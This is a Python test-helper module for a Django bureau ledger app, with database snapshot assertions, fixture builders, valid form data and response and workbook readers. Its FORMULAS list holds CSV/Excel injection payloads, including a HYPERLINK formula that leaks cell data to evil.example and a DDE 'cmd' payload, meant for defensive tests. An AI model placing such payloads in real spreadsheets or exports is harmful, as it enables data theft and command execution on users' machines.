"""What the hostile-input cases share: a snapshot of every ledger table, a world of records in two
bureaus, a valid POST for every record type, and small readers for responses and workbooks."""

import datetime
import io
import itertools
import re
from dataclasses import dataclass, field

from django.apps import apps
from django.db import connection
from django.urls import reverse
from openpyxl import Workbook, load_workbook

LEDGER_APPS = ("bureau", "campaigns", "surveys", "enterprises", "reports")
ON_POSTGRES = connection.vendor == "postgresql"

# Text a hostile or merely careless user types.
EMOJI_CHINESE = "👍青田县🌾杨梅种植技术培训🎉（第2期）👨‍👩‍👧"
NUL_TEXT = "学习党章\x00第二章"
ESC_TEXT = "学习党章\x1b[31m红色\x1b[0m"
RTL_TEXT = "学习党章\u202egnp.exe"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


# --- the database before and after ----------------------------------------------------------------


# The audit trail records refusals and imports themselves: it is meant to grow on a refused request.
AUDIT_TRAIL = {"bureau.AuditEvent", "bureau.AuditChain"}


def ledger_models():
    for label in LEDGER_APPS:
        for model in apps.get_app_config(label).get_models(include_auto_created=True):
            if model._meta.label not in AUDIT_TRAIL:
                yield model


def snapshot(models=None) -> dict[str, tuple]:
    """Per ledger table: row count, highest id and, where there are such columns, the latest update and
    the sum of versions (a changed row moves one of them even when the count stays). One query."""
    parts = []
    quote = connection.ops.quote_name
    for model in models or ledger_models():
        opts = model._meta
        names = {f.name: f.column for f in opts.concrete_fields}
        columns = [
            "COUNT(*)",
            f"MAX({quote(opts.pk.column)})",
            f"MAX({quote(names['updated_at'])})" if "updated_at" in names else "NULL",
            f"SUM({quote(names['version'])})" if "version" in names else "NULL",
        ]
        texts = ", ".join(f"CAST({c} AS TEXT)" for c in columns)
        # Table and column names come from the models, never from input.
        parts.append(f"SELECT '{opts.label}', {texts} FROM {quote(opts.db_table)}")  # noqa: S608
    with connection.cursor() as cursor:
        cursor.execute(" UNION ALL ".join(parts))
        return {label: tuple(values) for label, *values in cursor.fetchall()}


def _label(model_or_label) -> str:
    return model_or_label if isinstance(model_or_label, str) else model_or_label._meta.label


def differences(before: dict, after: dict) -> dict[str, tuple]:
    return {label: (before[label], after[label]) for label in before if before[label] != after[label]}


class Ledger:
    """`ledger = Ledger()` before the hostile request, then `ledger.assert_unchanged()` or
    `ledger.assert_created(StudySession)` after it."""

    def __init__(self, models=None):
        self.models = list(models) if models else None
        self.before = snapshot(self.models)

    def changes(self, ignore=()) -> dict[str, tuple]:
        ignored = {_label(m) for m in ignore}
        return {k: v for k, v in differences(self.before, snapshot(self.models)).items() if k not in ignored}

    def assert_unchanged(self, ignore=()):
        changed = self.changes(ignore)
        assert not changed, f"the database changed: {changed}"

    def assert_created(self, *models, count=1, also=(), ignore=()):
        """Exactly `count` new rows of each of `models` (and their history rows); `also` may change freely."""
        changed = self.changes(ignore=(*ignore, *also))
        expected = set()
        for model in models:
            label = _label(model)
            expected.add(label)
            old, new = changed.get(label, (("0",), ("0",)))
            assert int(new[0]) - int(old[0]) == count, f"{label}: {old} -> {new}"
            app, name = label.split(".")
            historical = f"{app}.Historical{name}"
            if historical in self.before:
                expected.add(historical)
                old, new = changed.get(historical, (("0",), ("0",)))
                assert int(new[0]) - int(old[0]) == count, f"{historical}: {old} -> {new}"
        unexpected = {k: v for k, v in changed.items() if k not in expected}
        assert not unexpected, f"unexpected changes: {unexpected}"


# --- the two bureaus and their records -------------------------------------------------------------


@dataclass
class World:
    """Everything of one bureau a form can point at, by name."""

    bureau: object
    campaign: object
    department: object
    user: object
    objects: dict = field(default_factory=dict)

    def __getattr__(self, name):
        try:
            return self.__dict__["objects"][name]
        except KeyError:
            raise AttributeError(name) from None


_codes = itertools.count(70000)


def next_credit_code() -> str:
    from enterprises.tests.factories import credit_code

    return credit_code(next(_codes))


def build_world(user, campaign, department=None) -> World:
    """One of everything a record form chooses from, recorded by `user` in `campaign`."""
    from enterprises.tests.factories import (
        EnterpriseFactory,
        EnterpriseVisitFactory,
        InstitutionFactory,
    )
    from surveys.tests.factories import (
        LinkFactory,
        QuestionFactory,
        QuestionnaireFactory,
        ResearchTopicFactory,
        ResearchVisitFactory,
        ResponseFactory,
    )

    common = {"recorded_by": user, "department": department}
    world = World(user.bureau, campaign, department, user)
    enterprise = EnterpriseFactory(credit_code=next_credit_code(), **common)
    world.objects.update(
        enterprise=enterprise,
        institution=InstitutionFactory(**common),
        topic=ResearchTopicFactory(campaign=campaign, **common),
        visit=ResearchVisitFactory(campaign=campaign, **common),
        enterprise_visit=EnterpriseVisitFactory(campaign=campaign, enterprise=enterprise, **common),
    )
    questionnaire = QuestionnaireFactory(campaign=campaign, title="科技助农满意度调查", **common)
    QuestionFactory(questionnaire=questionnaire, position=0, kind="single", text="总体评价")
    QuestionFactory(
        questionnaire=questionnaire, position=1, kind="multiple", text="需要哪些服务", options=["技术培训", "上门指导"]
    )
    QuestionFactory(questionnaire=questionnaire, position=2, kind="rating", text="服务及时性")
    QuestionFactory(questionnaire=questionnaire, position=3, kind="short_text", text="所在乡镇", required=False)
    QuestionFactory(questionnaire=questionnaire, position=4, kind="long_text", text="意见建议", required=False)
    link = LinkFactory(questionnaire=questionnaire, label="种植大户")
    world.objects.update(
        questionnaire=questionnaire, link=link, response=ResponseFactory(questionnaire=questionnaire, link=link)
    )
    return world


def valid_data(slug: str, world: World) -> dict:
    """A POST the create page of `slug` accepts in `world` (one new record)."""
    day = "2019-10-15"
    common = {"campaign": world.campaign.pk, "department": world.department.pk if world.department else ""}
    data = {
        "study-sessions": {"kind": "collective", "date": day, "topic": "学习党章", "attendance": "21"},
        "rectifications": {
            "source": "leadership",
            "date": day,
            "problem": "理论学习不够深入",
            "owner": world.user.pk,
            "deadline": "2019-12-31",
            "status": "open",
        },
        "plan-tasks": {
            "title": "召开动员部署会",
            "date": day,
            "deadline": "2019-12-31",
            "owner": world.user.pk,
            "status": "not_started",
        },
        "research-topics": {"title": "科技特派员服务成效调研", "date": day, "lead": world.user.pk},
        "research-visits": {
            "subject_type": "farmer",
            "subject_name": "船寮镇杨梅种植大户",
            "date": day,
            "method": "on_site",
            "people_met": "3",
            "topic": world.topic.pk,
        },
        "questionnaires": {"title": "企业科技需求调查", "opens_on": day, "accepting": "on"},
        "suggestions": {
            "date": day,
            "source": "direct",
            "category": "policy",
            "content": "希望加强科技政策宣传",
            "status": "received",
        },
        "research-reports": {
            "title": "关于科技特派员服务的调研报告",
            "authors": "吴晓燕",
            "date": day,
            "status": "finished",
            "topic": world.topic.pk,
        },
        "enterprises": {
            "name": f"青田县测试阀门有限公司{next(_codes)}",
            "credit_code": next_credit_code(),
            "town": "温溪镇",
            "industry": "通用设备制造业",
        },
        "enterprise-visits": {
            "enterprise": world.enterprise.pk,
            "date": day,
            "purpose": "policy",
            "visitors": [world.user.pk],
        },
        "enterprise-issues": {
            "enterprise": world.enterprise.pk,
            "date": day,
            "category": "financing",
            "description": "缺少研发资金",
            "owner": world.user.pk,
            "deadline": "2019-11-30",
            "status": "raised",
        },
        "applications": {
            "enterprise": world.enterprise.pk,
            "kind": "national_high_tech",
            "year": "2019",
            "status": "filed",
            "filed_on": day,
        },
        "institutions": {"name": f"中国科学院测试研究所{next(_codes)}", "kind": "research_institute"},
        "agreements": {
            "kind": "strategic",
            "title": "科技合作协议",
            "institution": world.institution.pk,
            "signed_on": day,
        },
    }[slug]
    return {**common, **data, "attachment_kind": "photo"}


def create_url(slug: str) -> str:
    from bureau.ledger.registry import REGISTRY

    return reverse(REGISTRY[slug].url_name("create"))


# --- reading responses ------------------------------------------------------------------------------


def text_of(response) -> str:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content).decode(errors="replace")
    return response.content.decode(errors="replace")


def form_errors(response) -> dict:
    context = response.context
    form = context.get("form") if context is not None else None
    return dict(form.errors) if form is not None else {}


CSRF_INPUT = re.compile(r'name="csrfmiddlewaretoken" value="([^"]+)"')


def csrf_token_from(response) -> str:
    match = CSRF_INPUT.search(text_of(response))
    assert match, "the page has no CSRF token"
    return match[1]


# --- workbooks ---------------------------------------------------------------------------------------


def xlsx_bytes(headers, rows) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(list(headers))
    for row in rows:
        sheet.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def workbook_of(response):
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def in_campaign(day: datetime.date, campaign) -> bool:
    return campaign.start <= day <= campaign.end
